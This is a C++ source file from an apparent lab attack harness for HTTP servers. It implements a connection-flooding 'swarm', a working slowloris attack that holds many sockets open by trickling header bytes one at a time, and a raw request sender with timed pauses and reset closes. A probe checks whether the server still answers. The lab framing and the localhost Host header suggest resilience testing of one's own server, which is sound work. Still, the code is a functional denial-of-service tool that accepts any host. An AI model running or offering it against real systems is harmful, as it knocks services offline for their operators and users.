#include "attacks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>

#include "http_client.h"

namespace lab::attack {

namespace {

using clock = std::chrono::steady_clock;

int remaining_ms(clock::time_point deadline) {
  auto left = std::chrono::duration_cast<milliseconds>(deadline - clock::now()).count();
  return static_cast<int>(std::max<long long>(0, left));
}

double ms_between(clock::time_point a, clock::time_point b) {
  return std::chrono::duration<double, std::milli>(b - a).count();
}

sockaddr_in address_of(const std::string& host, int port) {
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(port));
  ::inet_pton(AF_INET, host.c_str(), &addr.sin_addr);
  return addr;
}

// A non-blocking socket with connect() started; -1 if no socket could be made.
int start_connect(const sockaddr_in& addr) {
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) != 0 &&
      errno != EINPROGRESS) {
    ::close(fd);
    return -1;
  }
  return fd;
}

bool connect_finished_ok(int fd) {
  int error = 0;
  socklen_t len = sizeof error;
  return ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &len) == 0 && error == 0;
}

void close_with_reset(int fd) {
  linger l{1, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &l, sizeof l);
  ::close(fd);
}

// Reads what is there without blocking. Returns false once the peer has closed.
bool drain(int fd, raw_reply& reply) {
  char buffer[16384];
  for (;;) {
    ssize_t n = ::recv(fd, buffer, sizeof buffer, MSG_DONTWAIT);
    if (n > 0) {
      reply.bytes.append(buffer, static_cast<size_t>(n));
      continue;
    }
    if (n == 0) return false;
    if (errno == EINTR) continue;
    if (errno == EAGAIN || errno == EWOULDBLOCK) return true;
    reply.reset = errno == ECONNRESET;
    return false;
  }
}

}  // namespace

raw_reply exchange(const std::string& host, int port, const std::vector<std::string>& pieces,
                   milliseconds timeout, milliseconds pause, finish how) {
  raw_reply reply;
  const sockaddr_in addr = address_of(host, port);
  int fd = start_connect(addr);
  if (fd < 0) return reply;
  pollfd p{fd, POLLOUT, 0};
  if (::poll(&p, 1, 3000) != 1 || !connect_finished_ok(fd)) {
    ::close(fd);
    return reply;
  }
  reply.connected = true;
  const auto started = clock::now();
  bool open = true;
  for (size_t i = 0; i < pieces.size() && open && !reply.send_failed; ++i) {
    if (i > 0 && pause.count() > 0) std::this_thread::sleep_for(pause);
    std::string_view rest = pieces[i];
    const auto deadline = clock::now() + timeout;
    while (!rest.empty()) {
      ssize_t n = ::send(fd, rest.data(), rest.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
      if (n > 0) {
        rest.remove_prefix(static_cast<size_t>(n));
        continue;
      }
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
        reply.send_failed = true;
        break;
      }
      // The server stopped reading: keep reading its answer while we wait to send more.
      pollfd w{fd, POLLOUT | POLLIN, 0};
      if (::poll(&w, 1, remaining_ms(deadline)) <= 0) {
        reply.send_failed = true;  // it neither reads nor closes: stop sending, read what came
        break;
      }
      if ((w.revents & POLLIN) && !(open = drain(fd, reply))) break;
      if (w.revents & (POLLERR | POLLHUP)) {
        reply.send_failed = true;
        break;
      }
    }
  }
  if (how == finish::reset) {
    close_with_reset(fd);
    return reply;
  }
  if (how == finish::shutdown_write) ::shutdown(fd, SHUT_WR);
  const auto deadline = clock::now() + timeout;
  while (open) {
    pollfd r{fd, POLLIN, 0};
    int ready = ::poll(&r, 1, remaining_ms(deadline));
    if (ready < 0 && errno == EINTR) continue;
    if (ready <= 0) break;
    open = drain(fd, reply);
  }
  if (!open) {
    reply.closed = true;
    reply.close_ms = ms_between(started, clock::now());
  }
  ::close(fd);
  return reply;
}

std::vector<split_response> split_responses(std::string_view bytes, bool& garbled) {
  std::vector<split_response> out;
  garbled = false;
  while (!bytes.empty()) {
    if (!bytes.starts_with("HTTP/1.")) {
      garbled = true;
      break;
    }
    const size_t header_end = bytes.find("\r\n\r\n");
    if (header_end == std::string_view::npos || bytes.size() < 12) {
      garbled = true;
      break;
    }
    split_response r;
    r.status = std::atoi(std::string(bytes.substr(9, 3)).c_str());
    std::string head(bytes.substr(0, header_end));
    std::transform(head.begin(), head.end(), head.begin(),
                   [](unsigned char c) { return std::tolower(c); });
    long length = -1;
    if (size_t at = head.find("\r\ncontent-length:"); at != std::string::npos)
      length = std::atol(head.c_str() + at + 17);
    const bool chunked = head.find("\r\ntransfer-encoding: chunked") != std::string::npos;
    r.says_close = head.find("\r\nconnection: close") != std::string::npos;
    bytes.remove_prefix(header_end + 4);
    if (chunked) {
      for (;;) {
        const size_t line_end = bytes.find("\r\n");
        if (line_end == std::string_view::npos) {
          garbled = true;
          return out;
        }
        const long size = std::strtol(std::string(bytes.substr(0, line_end)).c_str(), nullptr, 16);
        bytes.remove_prefix(line_end + 2);
        if (size <= 0) {
          bytes.remove_prefix(std::min<size_t>(2, bytes.size()));  // the final CRLF
          break;
        }
        if (bytes.size() < static_cast<size_t>(size) + 2) {
          garbled = true;
          return out;
        }
        r.body.append(bytes.substr(0, static_cast<size_t>(size)));
        bytes.remove_prefix(static_cast<size_t>(size) + 2);
      }
    } else if (length < 0 || r.status == 204 || r.status == 304) {
      if (length < 0) {
        r.body = std::string(bytes);
        bytes = {};
      }
    } else {
      if (bytes.size() < static_cast<size_t>(length)) {
        garbled = true;
        r.body = std::string(bytes);
        out.push_back(std::move(r));
        return out;
      }
      r.body = std::string(bytes.substr(0, static_cast<size_t>(length)));
      bytes.remove_prefix(static_cast<size_t>(length));
    }
    out.push_back(std::move(r));
  }
  return out;
}

probe_result probe_plaintext(const std::string& host, int port, milliseconds timeout) {
  probe_result result;
  const auto started = clock::now();
  try {
    http_connection c(host, port, timeout);
    const auto left = std::max<milliseconds>(
        milliseconds(1), timeout - std::chrono::duration_cast<milliseconds>(clock::now() - started));
    auto r = c.request("GET /plaintext HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", left);
    result.ms = ms_between(started, clock::now());
    result.answered = r.status == 200 && r.body == "Hello, World!";
    if (!result.answered)
      result.error = "answered " + std::to_string(r.status) + " with a " +
                     std::to_string(r.body.size()) + "-byte body";
  } catch (const http_error& e) {
    result.ms = ms_between(started, clock::now());
    result.error = e.what();
  }
  return result;
}

long raise_fd_limit(long wanted) {
  rlimit limit{};
  if (::getrlimit(RLIMIT_NOFILE, &limit) != 0) return 1024;
  if (limit.rlim_cur < static_cast<rlim_t>(wanted)) {
    limit.rlim_cur = std::min<rlim_t>(limit.rlim_max, static_cast<rlim_t>(wanted));
    ::setrlimit(RLIMIT_NOFILE, &limit);
    ::getrlimit(RLIMIT_NOFILE, &limit);
  }
  return static_cast<long>(limit.rlim_cur);
}

swarm::swarm(std::string host, int port, kind k, int connections, milliseconds interval)
    : host_(std::move(host)), port_(port), kind_(k), wanted_(connections), interval_(interval) {}

swarm::~swarm() { stop(); }

void swarm::start() {
  const sockaddr_in addr = address_of(host_, port_);
  // Batches of 100 connects at once: a burst of thousands of SYNs overflows the listen
  // backlog of a server that accepts slowly, and the kernel then retries them after a second.
  constexpr int batch = 100;
  static const std::string request_line = "GET /plaintext HTTP/1.1\r\nHost: 127.0.0.1\r\n";
  for (int done = 0; done < wanted_; done += batch) {
    std::vector<pollfd> pending;
    for (int i = done; i < std::min(wanted_, done + batch); ++i) {
      int fd = start_connect(addr);
      if (fd < 0) {
        ++failed_;
        continue;
      }
      pending.push_back({fd, POLLOUT, 0});
    }
    const auto deadline = clock::now() + std::chrono::seconds(2);
    size_t waiting = pending.size();
    while (waiting > 0 && clock::now() < deadline) {
      if (::poll(pending.data(), pending.size(), remaining_ms(deadline)) <= 0) break;
      for (auto& p : pending) {
        if (p.fd < 0 || !p.revents) continue;
        if (connect_finished_ok(p.fd)) {
          if (kind_ == kind::slowloris)
            ::send(p.fd, request_line.data(), request_line.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
          fds_.push_back(p.fd);
          ++opened_;
        } else {
          ::close(p.fd);
          ++failed_;
        }
        p.fd = -1;  // poll ignores negative descriptors
        --waiting;
      }
    }
    for (auto& p : pending)
      if (p.fd >= 0) {
        ::close(p.fd);
        ++failed_;
      }
  }
  thread_ = std::thread([this] { loop(); });
}

void swarm::loop() {
  // One endless header, a byte at a time: "X-Slow-N: x\r\n" lines never end with a blank line.
  static const std::string trickle = "X-Slow: slowloris-was-here\r\n";
  size_t at = 0;
  while (!stop_.load()) {
    const auto next = clock::now() + interval_;
    for (int& fd : fds_) {
      if (fd < 0) continue;
      char buffer[4096];
      ssize_t n;
      while ((n = ::recv(fd, buffer, sizeof buffer, MSG_DONTWAIT)) > 0) {
      }
      bool closed = n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR);
      if (!closed && kind_ == kind::slowloris) {
        if (::send(fd, &trickle[at], 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1)
          bytes_sent_.fetch_add(1);
        else if (errno != EAGAIN && errno != EWOULDBLOCK)
          closed = true;
      }
      if (closed) {
        ::close(fd);
        fd = -1;
        closed_by_server_.fetch_add(1);
      }
    }
    at = (at + 1) % trickle.size();
    while (!stop_.load() && clock::now() < next) std::this_thread::sleep_for(milliseconds(10));
  }
}

void swarm::stop() {
  stop_.store(true);
  if (thread_.joinable()) thread_.join();
  for (int fd : fds_)
    if (fd >= 0) ::close(fd);
  fds_.clear();
}

}  // namespace lab::attack
